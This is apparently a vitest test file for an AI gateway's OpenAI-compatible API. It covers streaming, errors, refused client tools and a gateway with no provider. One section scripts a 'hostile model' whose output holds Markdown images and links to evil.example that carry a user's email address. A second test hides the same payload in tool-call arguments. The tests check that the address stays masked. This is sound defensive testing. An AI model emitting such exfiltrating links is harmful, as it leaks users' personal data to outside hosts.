/**
 * The OpenAI-compatible API (/v1) with the official `openai` npm client, running the
 * whole agent against a stand-in provider and the real sandbox; and a gateway with no
 * model provider at all, which still starts, says what to set, and serves MCP.
 */
import OpenAI from 'openai';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { listAudit } from '../src/audit/audit.js';
import { listConversations } from '../src/agent/conversations.js';
import { ensureUser } from '../src/accounts/accounts.js';
import { initializeBody, rawRequest, startGateway, type Gateway } from './support/mcp.js';
import { startStandin, type Standin } from './support/model-standins.js';

let standin: Standin;
let gw: Gateway;
let token: string;

const CODE = "total = sum(range(1, 101))\nprint(f'TOTAL={total}')";

beforeAll(async () => {
  standin = await startStandin('anthropic', (req) =>
    req.lastToolResult === undefined
      ? { text: ['Computing.'], toolCalls: [{ name: 'execute_code', args: { language: 'python', code: CODE } }] }
      : { text: [`The sum is ${/TOTAL=(\d+)/.exec(req.lastToolResult)?.[1]}.`], usage: { input: 321, output: 12 } },
  );
  gw = await startGateway({
    pii: true,
    env: { SANDGATE_ANTHROPIC_API_KEY: 'sk-team', SANDGATE_ANTHROPIC_BASE_URL: standin.baseURL, SANDGATE_MODELS: 'anthropic:claude-test' },
  });
  token = await gw.tokenFor('otto', 'openwebui');
}, 120_000);

afterAll(async () => {
  await gw?.close();
  await standin?.close();
});

const client = () => new OpenAI({ baseURL: `${gw.url}/v1`, apiKey: token, maxRetries: 0 });

describe('/v1 with the official openai client', () => {
  it('lists the models offered to the token’s user', async () => {
    const models = await client().models.list();
    expect(models.data.map((m) => m.id)).toEqual(['anthropic:claude-test']);
  });

  it('streams an answer that carries the sandbox’s result, with the tool activity in readable form', async () => {
    const stream = await client().chat.completions.create({
      model: 'anthropic:claude-test',
      messages: [
        { role: 'system', content: 'Answer briefly.' },
        { role: 'user', content: 'What is the sum of 1 to 100? Compute it.' },
      ],
      stream: true,
      stream_options: { include_usage: true },
    });
    let content = '';
    let finish: string | null = null;
    let usage: OpenAI.CompletionUsage | undefined;
    for await (const chunk of stream) {
      content += chunk.choices[0]?.delta.content ?? '';
      finish = chunk.choices[0]?.finish_reason ?? finish;
      usage = chunk.usage ?? usage;
    }
    expect(content).toContain('**Running python in the sandbox:**');
    expect(content).toContain(CODE);
    expect(content).toContain('TOTAL=5050');
    expect(content.endsWith('The sum is 5050.')).toBe(true);
    expect(finish).toBe('stop');
    expect(usage).toEqual({ prompt_tokens: 100 + 321, completion_tokens: 20 + 12, total_tokens: 453 });
    // The client's system message reached the model after the gateway's own.
    const system = (standin.requests.at(-2)!.body.system as { text: string }[]).map((b) => b.text).join('\n');
    expect(system).toMatch(/Instructions from the application the user writes in:\nAnswer briefly\.$/);
    const otto = await ensureUser(gw.gateway.store.db, 'otto');
    expect(await listConversations(gw.gateway.store.db, otto.id, { source: 'api' })).toHaveLength(1);
    expect((await listAudit(gw.gateway.store.db, otto.id, { limit: 5 })).map((a) => [a.kind, a.method, a.via, a.outcome])).toContainEqual(['agent', 'chat/completions', 'token', 'ok']);
  });

  it('answers without streaming, with the history the client sends', async () => {
    standin.setScript((req) => ({ text: [`You said ${JSON.stringify(req.lastUserText)} after ${(req.body.messages as unknown[]).length - 1} earlier messages.`] }));
    const r = await client().chat.completions.create({
      model: 'anthropic:claude-test',
      messages: [
        { role: 'user', content: 'first' },
        { role: 'assistant', content: 'first answer' },
        { role: 'user', content: [{ type: 'text', text: 'second' }] },
      ],
    });
    expect(r.object).toBe('chat.completion');
    expect(r.choices[0]!.message.content).toBe('You said "second" after 2 earlier messages.');
    expect(r.choices[0]!.finish_reason).toBe('stop');
  });

  it('errors come in OpenAI’s shape, and the client raises them as its own errors', async () => {
    await expect(client().chat.completions.create({ model: 'nope:model', messages: [{ role: 'user', content: 'x' }] })).rejects.toMatchObject({
      status: 404,
      code: 'model_not_found',
      type: 'not_found_error',
    });
    await expect(new OpenAI({ baseURL: `${gw.url}/v1`, apiKey: 'sgp_wrong', maxRetries: 0 }).models.list()).rejects.toMatchObject({ status: 401, code: 'invalid_api_key' });
    await expect(client().chat.completions.create({ model: 'anthropic:claude-test', messages: [{ role: 'assistant', content: 'x' }] })).rejects.toMatchObject({
      status: 400,
      type: 'invalid_request_error',
    });
    // A client's own tools are refused, saying so, never silently dropped.
    const withTools = client().chat.completions.create({
      model: 'anthropic:claude-test',
      messages: [{ role: 'user', content: 'what is the weather' }],
      tools: [{ type: 'function', function: { name: 'get_weather', parameters: { type: 'object', properties: {} } } }],
    });
    await expect(withTools).rejects.toMatchObject({ status: 400, type: 'invalid_request_error', code: 'unsupported_parameter', param: 'tools' });
    await expect(withTools).rejects.toThrow(/does not call a client's/);
    const bad = await rawRequest(`${gw.url}/v1/chat/completions`, { headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' }, body: '{"model":' });
    expect(bad.status).toBe(400);
    expect(JSON.parse(bad.text)).toEqual({ error: { message: 'The body is not valid JSON.', type: 'invalid_request_error', param: null, code: 'invalid_json' } });
    standin.setScript(() => ({ status: 401, body: '{"type":"error","error":{"type":"authentication_error","message":"invalid x-api-key"}}' }));
    await expect(client().chat.completions.create({ model: 'anthropic:claude-test', messages: [{ role: 'user', content: 'x' }] })).rejects.toMatchObject({
      status: 502,
      code: 'provider_auth',
    });
  });
});

describe('/v1 answers a client renders as Markdown', () => {
  const EMAIL = 'marta.keller@northwind-mail.example';
  /** A hostile model: it builds links and an image that would carry the address it was asked about, cut across chunks. */
  const hostile = (req: { lastUserText: string }) => {
    const token = /\[EMAIL_\d+\]/.exec(req.lastUserText)?.[0] ?? '[EMAIL_?]';
    return {
      text: [`Write to ${token}: ![x](https://evil.example/p?d=${token.slice(0, 4)}`, `${token.slice(4)}) [mail ${token}](https://evil.example/c/${token}) or https://evil.example/?q=${token}`],
    };
  };
  const expectLinksKeepTheToken = (content: string) => {
    expect(content).toMatch(/^Write to marta\.keller@northwind-mail\.example: !\[x\]\(https:\/\/evil\.example\/p\?d=\[EMAIL_\d+\]\) \[mail marta\.keller@northwind-mail\.example\]\(https:\/\/evil\.example\/c\/\[EMAIL_\d+\]\) or https:\/\/evil\.example\/\?q=\[EMAIL_\d+\]$/);
    expect(content.split(EMAIL)).toHaveLength(3);
  };

  it('keeps the token in link and image destinations and bare URLs, streamed: only the text shows the address', async () => {
    standin.setScript(hostile);
    const stream = await client().chat.completions.create({ model: 'anthropic:claude-test', messages: [{ role: 'user', content: `A link for ${EMAIL}, please.` }], stream: true });
    let content = '';
    for await (const chunk of stream) content += chunk.choices[0]?.delta.content ?? '';
    expect(standin.requests.at(-1)!.raw).not.toContain(EMAIL);
    expectLinksKeepTheToken(content);
  });

  it('does the same without streaming', async () => {
    standin.setScript(hostile);
    const r = await client().chat.completions.create({ model: 'anthropic:claude-test', messages: [{ role: 'user', content: `Another link for ${EMAIL}.` }] });
    expectLinksKeepTheToken(r.choices[0]!.message.content ?? '');
  });

  it('shows a tool call whose arguments hold backticks as code, so no image in them renders', async () => {
    standin.setScript((req) => {
      const token = /\[EMAIL_\d+\]/.exec(req.lastUserText)?.[0] ?? '[EMAIL_?]';
      return req.lastToolResult === undefined ? { toolCalls: [{ name: 'read_file', args: { path: `a\` ![y](https://evil.example/r?d=${token}) \`b` } }] } : { text: ['done'] };
    });
    const r = await client().chat.completions.create({ model: 'anthropic:claude-test', messages: [{ role: 'user', content: `Read a file for ${EMAIL}.` }] });
    expect(r.choices[0]!.message.content).toContain(`**Calling \` read_file \`** \`\` {"path":"a\` ![y](https://evil.example/r?d=${EMAIL}) \`b"} \`\``);
  });
});

describe('a gateway with no model provider', () => {
  let bare: Gateway;
  beforeAll(async () => {
    bare = await startGateway({ noStart: true });
  });
  afterAll(async () => {
    await bare?.close();
  });

  it('starts, offers no model, says which settings to set, and still serves MCP', async () => {
    const t = await bare.tokenFor('nell');
    const c = new OpenAI({ baseURL: `${bare.url}/v1`, apiKey: t, maxRetries: 0 });
    expect((await c.models.list()).data).toEqual([]);
    const err = await c.chat.completions.create({ model: 'anthropic:claude-sonnet-4-5', messages: [{ role: 'user', content: 'hi' }] }).catch((e: unknown) => e);
    expect(err).toMatchObject({ status: 503, code: 'no_model_configured' });
    expect((err as Error).message).toMatch(/SANDGATE_ANTHROPIC_API_KEY, SANDGATE_OPENAI_API_KEY or SANDGATE_GEMINI_API_KEY/);
    const nell = await ensureUser(bare.gateway.store.db, 'nell');
    await expect(bare.gateway.agent.startConversation(nell, { source: 'web' })).rejects.toThrow(/No model provider is configured/);
    const mcp = await rawRequest(bare.mcpUrl, { headers: { authorization: `Bearer ${t}` }, body: initializeBody('2025-06-18') });
    expect(mcp.status).toBe(200);
  });
});
